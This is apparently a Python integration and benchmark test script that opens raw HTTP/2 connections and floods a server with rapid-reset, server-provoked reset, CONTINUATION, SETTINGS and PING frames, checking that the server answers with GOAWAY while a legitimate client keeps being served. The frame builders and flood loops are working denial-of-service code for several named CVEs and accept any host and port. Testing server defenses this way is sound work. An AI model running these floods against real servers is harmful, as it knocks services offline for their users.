#!/usr/bin/python3
"""HTTP/2 flood probes against an HTTP/2 server on loopback: Gatehouse in
tests/integration/h2_test.cc (h2c), and Gatehouse, nginx and HAProxy over TLS in scripts/bench
(scenario h2-probes).

Usage: h2_probes.py [--tls] HOST PORT
  --tls: TLS with ALPN h2 (the certificate is not verified), else h2c with prior knowledge.

Each probe opens its own connection and floods it: rapid reset (CVE-2023-44487), server-provoked
resets ("MadeYouReset", CVE-2025-8671), a CONTINUATION flood (CVE-2024-28182), a SETTINGS flood
and a PING flood. A probe passes when the server sends GOAWAY on that connection before the
probe's frame budget is spent. Meanwhile a legitimate client on another connection sends GET
requests one after another; at least 99 % of them must be served (status 200). Every loop is
bounded in count and time. Prints "PASS name" / "FAIL name ..." and exits 1 on any failure, and
for scripts/bench one line per probe and one for the legitimate client:
  RESULT name cut=goaway|closed|no code=N frames=N seconds=S
  RESULT legit served=N total=N
(frames: sent before the server cut the connection or the probe gave up; seconds: from the
first frame to the GOAWAY or close, or to giving up).
Frames are written by hand (RFC 9113 section 4.1), with hpack for header blocks: the python-h2
state machine would refuse to send most of these.
"""
import socket
import ssl
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 0x1, 0x4
DEADLINE_S = 15  # per probe
TLS = False  # --tls
SCHEME = "http"


def connect(host, port):
    """A TCP connection, wrapped in TLS with ALPN h2 under --tls."""
    sock = socket.create_connection((host, port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not TLS:
        return sock
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    tls = ctx.wrap_socket(sock, server_hostname="localhost")
    if tls.selected_alpn_protocol() != "h2":
        raise ConnectionError("the server did not choose h2 by ALPN")
    return tls


def count_frames(data):
    n = 0
    while len(data) >= 9:
        n += 1
        data = data[9 + int.from_bytes(data[:3], "big"):]
    return n


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def header_block(host, port, path="/", extra=()):
    enc = hpack.Encoder()
    return enc.encode([(":method", "GET"), (":scheme", SCHEME), (":authority", "%s:%d" % (host, port)),
                       (":path", path), ("user-agent", "probe/1.0")] + list(extra))


class Wire:
    """A raw HTTP/2 client connection that notices GOAWAY and EOF."""

    def __init__(self, host, port):
        self.sock = connect(host, port)
        self.buf = b""
        self.goaway = None  # error code of the GOAWAY received
        self.closed = False
        self.cut_at = None  # when the GOAWAY or the close was first seen
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def poll(self, wait=0.0):
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    self.closed = True
                    break
                self.buf += chunk
                self._parse()
                self.sock.settimeout(0.0001)
        except (socket.timeout, BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.closed = True
        self._parse()
        if self.cut_at is None and self.cut():
            self.cut_at = time.monotonic()

    def _parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            ftype = self.buf[3]
            payload = self.buf[9:9 + length]
            if ftype == GOAWAY and self.goaway is None and len(payload) >= 8:
                self.goaway = int.from_bytes(payload[4:8], "big")
            self.buf = self.buf[9 + length:]

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            if self.cut_at is None:
                self.cut_at = time.monotonic()
            return False

    def cut(self):
        return self.goaway is not None or self.closed


class Outcome:
    def __init__(self, goaway, closed, batches, frames, seconds):
        self.goaway, self.closed, self.batches = goaway, closed, batches
        self.frames, self.seconds = frames, seconds


def flood(host, port, name, make_batch, batches):
    """Sends batches until the server cuts the connection (or the budget or DEADLINE_S is
    spent), then waits up to 3 s for a GOAWAY or the close."""
    w = Wire(host, port)
    w.poll(0.2)
    start = time.monotonic()
    sent = frames = 0
    for i in range(batches):
        if w.cut() or time.monotonic() - start > DEADLINE_S:
            break
        batch = make_batch(i)
        if not w.send(batch):
            break
        sent += 1
        frames += count_frames(batch)
        w.poll()
    end = time.monotonic() + 3
    while w.goaway is None and not w.closed and time.monotonic() < end:
        w.poll(0.05)
    w.sock.close()
    seconds = (w.cut_at if w.cut_at is not None else time.monotonic()) - start
    return Outcome(w.goaway, w.closed, sent, frames, seconds)


def rapid_reset(host, port):
    block = header_block(host, port)

    def batch(i):
        out = b""
        for k in range(20):
            sid = 1 + 2 * (i * 20 + k)
            out += frame(HEADERS, END_HEADERS | END_STREAM, sid, block)
            out += frame(RST_STREAM, 0, sid, struct.pack(">I", 8))  # CANCEL
        return out
    return flood(host, port, "rapid_reset", batch, 500)  # up to 10,000 streams


def server_resets(host, port):
    # A connection-specific field is malformed in HTTP/2 (RFC 9113 8.2.2): the server must
    # reset each such stream itself.
    block = header_block(host, port, extra=[("connection", "keep-alive")])

    def batch(i):
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * (i * 20 + k), block)
                        for k in range(20))
    return flood(host, port, "server_resets", batch, 500)


def continuation(host, port):
    first = header_block(host, port)

    def batch(i):
        if i == 0:
            return frame(HEADERS, END_STREAM, 1, first)
        return b"".join(frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b") for _ in range(20))
    return flood(host, port, "continuation", batch, 500)


def settings_flood(host, port):
    def batch(i):
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 50
    return flood(host, port, "settings_flood", batch, 400)  # up to 20,000 frames


def ping_flood(host, port):
    def batch(i):
        return b"".join(frame(PING, 0, 0, struct.pack(">Q", i * 50 + k)) for k in range(50))
    return flood(host, port, "ping_flood", batch, 400)


class Retry(Exception):
    """A graceful GOAWAY (NO_ERROR) that left our stream unprocessed: a client retries it on a
    new connection (RFC 9113 6.8). Servers send one after N requests per connection (nginx's
    keepalive_requests, Gatehouse's 1,000); it is not a refusal."""


class Legit(threading.Thread):
    """A well-behaved client: one GET after another on its own connection."""

    def __init__(self, host, port):
        super().__init__(daemon=True)
        self.host, self.port = host, port
        self.ok = self.failed = 0
        self.stop = threading.Event()
        self.errors = []

    def connect(self):
        sock = connect(self.host, self.port)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        return sock, conn

    def one(self, sock, conn):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":scheme", SCHEME),
                                (":authority", "%s:%d" % (self.host, self.port)), (":path", "/legit"),
                                ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Legit/1.0")],
                          end_stream=True)
        sock.sendall(conn.data_to_send())
        status = None
        end = time.monotonic() + 5
        while time.monotonic() < end:
            data = sock.recv(65536)
            if not data:
                raise ConnectionError("closed")
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                    status = dict(ev.headers).get(b":status")
                elif isinstance(ev, h2.events.DataReceived):
                    conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                    out = conn.data_to_send()
                    if out:
                        sock.sendall(out)
                    return status == b"200"
                elif (isinstance(ev, h2.events.ConnectionTerminated) and ev.error_code == 0
                      and ev.last_stream_id is not None and sid > ev.last_stream_id):
                    raise Retry()
                elif isinstance(ev, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    raise ConnectionError(repr(ev))
            out = conn.data_to_send()
            if out:
                sock.sendall(out)
        raise TimeoutError("no answer in 5 s")

    def run(self):
        sock, conn = None, None
        deadline = time.monotonic() + 120
        while not self.stop.is_set() and time.monotonic() < deadline:
            try:
                if sock is None:
                    sock, conn = self.connect()
                if self.one(sock, conn):
                    self.ok += 1
                else:
                    self.failed += 1
            except Retry:
                sock.close()
                sock = None
            except Exception as e:  # noqa: BLE001 - any failure counts against the client
                self.failed += 1
                self.errors.append(repr(e))
                if sock is not None:
                    sock.close()
                sock = None
            time.sleep(0.005)
        if sock is not None:
            sock.close()


def main():
    global TLS, SCHEME
    args = sys.argv[1:]
    if args and args[0] == "--tls":
        TLS, SCHEME = True, "https"
        args = args[1:]
    if len(args) != 2:
        print(__doc__.strip(), file=sys.stderr)
        return 2
    host, port = args[0], int(args[1])
    legit = Legit(host, port)
    legit.start()
    time.sleep(0.3)
    failed = False
    for name, probe in [("rapid_reset", rapid_reset), ("server_resets", server_resets),
                        ("continuation", continuation), ("settings_flood", settings_flood),
                        ("ping_flood", ping_flood)]:
        try:
            o = probe(host, port)
        except OSError as e:  # the probe's connection itself failed
            print("FAIL %s: %r" % (name, e), flush=True)
            failed = True
            continue
        cut = "goaway" if o.goaway is not None else "closed" if o.closed else "no"
        print("RESULT %s cut=%s code=%s frames=%d seconds=%.3f" % (
            name, cut, "-" if o.goaway is None else o.goaway, o.frames, o.seconds), flush=True)
        if o.goaway is not None:
            print("PASS %s: GOAWAY (error %d) after %d batches" % (name, o.goaway, o.batches),
                  flush=True)
        else:
            print("FAIL %s: no GOAWAY after %d batches" % (name, o.batches), flush=True)
            failed = True
    time.sleep(0.3)
    legit.stop.set()
    legit.join(10)
    total = legit.ok + legit.failed
    share = legit.ok / total if total else 0.0
    print("RESULT legit served=%d total=%d" % (legit.ok, total), flush=True)
    print("legitimate client: %d of %d served (%.2f %%) %s" % (legit.ok, total, 100 * share,
                                                              legit.errors[:3]), flush=True)
    if total < 20 or share < 0.99:
        print("FAIL legit", flush=True)
        failed = True
    else:
        print("PASS legit", flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
